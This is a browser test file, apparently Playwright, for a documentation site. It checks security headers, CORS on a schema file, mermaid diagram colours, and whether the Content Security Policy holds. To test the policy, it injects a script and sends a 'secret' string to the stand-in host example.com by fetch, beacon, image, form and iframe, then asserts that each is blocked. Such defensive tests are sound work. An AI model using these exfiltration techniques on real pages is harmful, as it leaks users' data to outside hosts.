import {layouts} from '@devspace-docs/page-weight';
import {switchToDark} from './axe.ts';
import {urlOf, expect, httpTest, test} from './fixtures.ts';

httpTest('every response has the security headers', async ({request}) => {
  for (const [path, status] of [
    ['', 200],
    ['nothing', 404],
    ['assets/js/none.js', 404],
    ['5.x/', 308],
  ] as const) {
    const response = await request.get(urlOf(path), {maxRedirects: 0});
    expect(response.status()).toBe(status);
    const headers = response.headers();
    expect(headers['content-security-policy']).toMatch(
      /script-src 'self'(?: 'sha256-\S+')+(?: https:\/\/\S+)*;/,
    );
    expect(headers['content-security-policy']).not.toMatch(/script-src[^;]*unsafe/);
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'strict-transport-security': 'max-age=31536000',
    });
    expect(headers['permissions-policy']).toContain('camera=()');
  }
});

httpTest('editors on other sites can load the schema', async ({request}) => {
  const response = await request.get(urlOf('schema/v2beta1.json'));
  expect(response.headers()['access-control-allow-origin']).toBe('*');
});

test('the policy blocks injected scripts, and sends no text to other sites', async ({
  page,
  visit,
  problems,
}) => {
  problems.allow(/Content Security Policy|violates|Refused/);
  const responses: string[] = [];
  page.on('response', (response) => responses.push(response.url()));
  // The page that readers paste their configs into.
  await visit('tools/check');
  const blocked = await page.evaluateHandle(() => {
    const directives = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
      directives.add(effectiveDirective),
    );
    const target = 'https://example.com/collect';
    fetch(target, {method: 'POST', body: 'secret'}).catch(() => undefined);
    navigator.sendBeacon(target, 'secret');
    new Image().src = target;
    const form = document.createElement('form');
    form.action = target;
    form.method = 'post';
    const frame = document.createElement('iframe');
    frame.src = target;
    const script = document.createElement('script');
    script.textContent = 'window.isInjected = true';
    document.body.append(form, frame, script);
    form.submit();
    return directives;
  });
  await expect
    .poll(() => blocked.evaluate((directives) => [...directives].sort()))
    .toEqual(['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem']);
  expect(await page.evaluate(() => 'isInjected' in window)).toBe(false);
  expect(responses.filter((url) => url.includes('example.com'))).toEqual([]);
});

test('diagrams have their colors, without style elements', async ({page, visit}) => {
  const layout = layouts.find(({hasDiagram}) => hasDiagram);
  if (!layout) throw new Error('No layout has a diagram: mark one in layouts.ts.');
  await visit(layout.path);
  const drawing = page.locator('.docusaurus-mermaid-container svg').filter({visible: true}).first();
  await expect(drawing).toBeVisible();
  await expect(drawing.locator('style')).toHaveCount(0);
  await expect(drawing).toHaveCSS('font-size', '14px');
  const box = drawing.locator('[fill="var(--docs-surface-raised)"]').first();
  const readFill = () => box.evaluate((element) => getComputedStyle(element).fill);
  const light = await readFill();
  // Shapes without a valid color are black.
  expect(light).not.toBe('rgb(0, 0, 0)');
  await switchToDark(page);
  await expect.poll(readFill).not.toBe(light);
  expect(await readFill()).not.toBe('rgb(0, 0, 0)');
});
